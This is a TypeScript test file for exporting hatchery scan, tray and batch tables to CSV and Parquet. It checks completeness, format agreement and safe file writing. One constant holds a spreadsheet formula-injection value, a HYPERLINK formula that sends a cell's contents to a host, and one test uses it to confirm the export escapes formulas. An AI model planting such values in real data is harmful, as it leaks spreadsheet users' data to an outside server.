import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } from 'hyparquet'
import { describe, expect, it } from 'vitest'
import { makeBatch } from '../../../test/make/commit-groups.ts'
import { fillHistory } from '../../../test/make/history.ts'
import { withFolder } from '../../../test/make/temporary-folder.ts'
import { EXPORT_TABLES, type ExportFormat, type ExportTable } from '../../contract/table-export.ts'
import { silentLogger } from '../../log/logger.ts'
import { dataFiles } from '../../store/data-folder.ts'
import { openReadable, openWritable, type ReadableDb } from '../../store/open-database.ts'
import { openStore } from '../../store/open-store.ts'
import { exportTable, NoRoomForTable, removeUnfinishedTables, type TableExport } from './export-table.ts'

const KEY = new Uint8Array(32).fill(3)
/** The middle of a month, so that whole months lie before it and their rows are cold. */
const NOW_MS = Date.UTC(2026, 9, 15)
const EVERYTHING = { fromWallMs: null, untilWallMs: null, batchId: null }
/** A spreadsheet that took it for a formula would ask a server of somebody else. */
const FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1)'

type Row = Record<string, unknown>

/** Months of trays, the older ones in cold files, and a batch of a flock with a nasty name. */
async function withHistory(
  work: (rig: {
    db: ReadableDb
    folder: string
    write(change?: Partial<TableExport['wish']>, more?: Partial<TableExport>): ReturnType<typeof exportTable>
  }) => Promise<void>,
): Promise<void> {
  await withFolder(async (folder) => {
    const clock = { wallMs: () => NOW_MS, monoMs: () => 0 }
    const store = openStore({ folder, key: KEY, clock, log: silentLogger })
    fillHistory(store, { scans: 2_000, seed: 4, days: 110, untilWallMs: NOW_MS })
    const nasty = makeBatch({ state: 'closed', closedWallMs: NOW_MS - 1 }, 'nasty')
    store.saveBatch({ ...nasty, identity: { ...nasty.identity, flock: FORMULA } })
    for (let done = 0; done < 2; ) if (store.moveToCold(0) !== 'moved') done++
    store.close()
    const db = openReadable({ path: dataFiles(folder).database, key: KEY })
    try {
      await work({
        ...{ db, folder },
        write: (change = {}, more = {}) =>
          exportTable({
            ...{ db, folder: join(folder, 'tables'), nowWallMs: NOW_MS, play: false, isSynthetic: () => true },
            wish: { table: 'scans', format: 'csv', ...EVERYTHING, ...change },
            ...more,
          }),
      })
    } finally {
      db.close()
    }
  })
}

async function rowsOf(file: string, format: ExportFormat): Promise<Row[]> {
  if (format === 'csv') return parse(readFileSync(file), { bom: true, columns: true })
  return parquetReadObjects({ file: await asyncBufferFromFile(file) })
}

function byText(left: Row, right: Row): number {
  return JSON.stringify(left) < JSON.stringify(right) ? -1 : 1
}

/** As the CSV says it. */
function asText(value: unknown): string {
  if (value === null || value === undefined) return ''
  if (value instanceof Date) return value.toISOString()
  if (typeof value === 'boolean') return value ? 'yes' : 'no'
  if (typeof value === 'string') return /^[=+\-@]/.test(value) ? `'${value}` : value
  return typeof value === 'number' || typeof value === 'bigint' ? value.toString() : JSON.stringify(value)
}

describe('tables as files', () => {
  it.each(EXPORT_TABLES)('hold every row of %s, hot and cold, the same in both forms', (table: ExportTable) =>
    withHistory(async ({ db, write }) => {
      const written = { csv: write({ table }), parquet: write({ table, format: 'parquet' }) }
      const csv = await rowsOf(written.csv.file, 'csv')
      const parquet = await rowsOf(written.parquet.file, 'parquet')
      expect(csv.length).toBe(written.csv.rows)
      expect(parquet.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, asText(v)])))).toEqual(csv)
      const sum = (sql: string) => db.prepare<[], { n: number }>(sql).get()?.n
      const counted = {
        batches: 'SELECT count(*) AS n FROM batch',
        trays: 'SELECT count(*) AS n FROM tray_visit',
        scans: 'SELECT sum(scans) AS n FROM tray_sum',
      }
      expect(csv.length).toBe(sum(counted[table]))
      expect(db.prepare('SELECT 1 FROM tray_visit WHERE cold_month IS NOT NULL').get()).toBeDefined()
      expect(csv.every((row) => row['play'] === 'no')).toBe(true)
    }),
  )

  it('agree with each other: eggs by class of batches and of their trays', () =>
    withHistory(async ({ write }) => {
      const batches = await rowsOf(write({ table: 'batches' }).file, 'csv')
      const trays = await rowsOf(write({ table: 'trays' }).file, 'csv')
      const sum = (rows: readonly Row[], name: string) => rows.reduce((total, row) => total + Number(row[name]), 0)
      expect(sum(batches, 'eggs_female')).toBeGreaterThan(0)
      for (const word of ['female', 'male', 'infertile', 'empty']) {
        expect(sum(batches, `eggs_${word}`)).toBe(sum(trays, word))
      }
    }))

  it('hold one batch, if that is wished for', () =>
    withHistory(async ({ write }) => {
      const all = await rowsOf(write().file, 'csv')
      const batchId = String(all[0]?.['batch'])
      const ofBatch = await rowsOf(write({ batchId }).file, 'csv')
      expect(ofBatch).toEqual(all.filter((row) => row['batch'] === batchId))
    }))

  it.each(EXPORT_TABLES)(
    'of two spans side by side hold each of the %s once, with a tray under the scanner between them',
    (table) =>
      withHistory(async ({ write }) => {
        const trays = await rowsOf(write({ table: 'trays' }).file, 'csv')
        const { began_at: began, ended_at: ended } = trays[Math.floor(trays.length / 2)] ?? {}
        const middle = (Date.parse(String(began)) + Date.parse(String(ended))) / 2
        const all = await rowsOf(write({ table }).file, 'csv')
        const before = await rowsOf(write({ table, untilWallMs: middle }).file, 'csv')
        const after = await rowsOf(write({ table, fromWallMs: middle }).file, 'csv')
        expect(before.length * after.length).toBeGreaterThan(0)
        expect([...before, ...after].toSorted(byText)).toEqual(all.toSorted(byText))
      }),
  )

  it('hold what arrived after the end of its tray, and the scans of a tray that has not ended', () =>
    withHistory(async ({ folder, write }) => {
      const [{ tray_visit: visit, began_at: began } = {}] = (await rowsOf(write({ table: 'trays' }).file, 'csv')).slice(
        -1,
      )
      const beganMs = Date.parse(String(began))
      const scansOf = async () =>
        (await rowsOf(write({ fromWallMs: beganMs, untilWallMs: beganMs + 1 }).file, 'csv')).filter(
          (row) => row['tray_visit'] === visit,
        )
      const scans = await scansOf()
      expect(scans.length).toBeGreaterThan(0)
      const late = openWritable({ path: dataFiles(folder).database, key: KEY })
      late.prepare('UPDATE tray_visit SET ended_wall_ms = NULL WHERE visit_id = ?').run(Number(visit))
      late.prepare('UPDATE scan SET arrived_wall_ms = arrived_wall_ms + 86400000 WHERE visit_id = ?').run(Number(visit))
      late.close()
      expect((await scansOf()).length).toBe(scans.length)
    }))

  it('hold no formula', () =>
    withHistory(async ({ write }) => {
      const text = readFileSync(write({ table: 'batches' }).file, 'utf8')
      expect(text).toContain(`"'=HYPERLINK`)
      expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
    }))

  it('say what is synthetic, and what was played', () =>
    withHistory(async ({ write }) => {
      const scans = await rowsOf(write().file, 'csv')
      expect(scans.every((row) => row['synthetic'] === 'yes')).toBe(true)
      const played = write({ table: 'trays' }, { play: true })
      expect(readFileSync(played.file, 'utf8')).toMatch(/^\uFEFF"TRAINING \(play\)/)
      const parquet = write({ table: 'trays', format: 'parquet' }, { play: true })
      const { key_value_metadata: words } = await parquetMetadataAsync(await asyncBufferFromFile(parquet.file))
      expect(words?.map(({ key }) => key)).toContain('play')
    }))

  it('leave nothing half written, and never take the name of another', () =>
    withHistory(async ({ folder, write }) => {
      const tables = join(folder, 'tables')
      const first = write()
      expect(write().file).not.toBe(first.file)
      const fail = () => {
        throw new Error('given up')
      }
      expect(() => write({}, { onShare: fail })).toThrow('given up')
      writeFileSync(join(tables, 'scans-x.csv.unfinished'), 'of a crash')
      removeUnfinishedTables(tables)
      expect(readdirSync(tables).filter((name) => name.endsWith('.unfinished'))).toEqual([])
      expect(readdirSync(tables)).toHaveLength(2)
    }))

  it('are refused by a disk that is as good as full', () =>
    withHistory(async ({ write }) => {
      expect(() => write({}, { freeBytes: () => 1e9 })).toThrow(NoRoomForTable)
    }))

  it('tell how far they are', () =>
    withHistory(async ({ write }) => {
      const shares: number[] = []
      write({}, { onShare: (share) => shares.push(share) })
      expect(shares.toSorted((a, b) => a - b)).toEqual(shares)
      expect(shares.at(-1)).toBe(1)
    }))
})
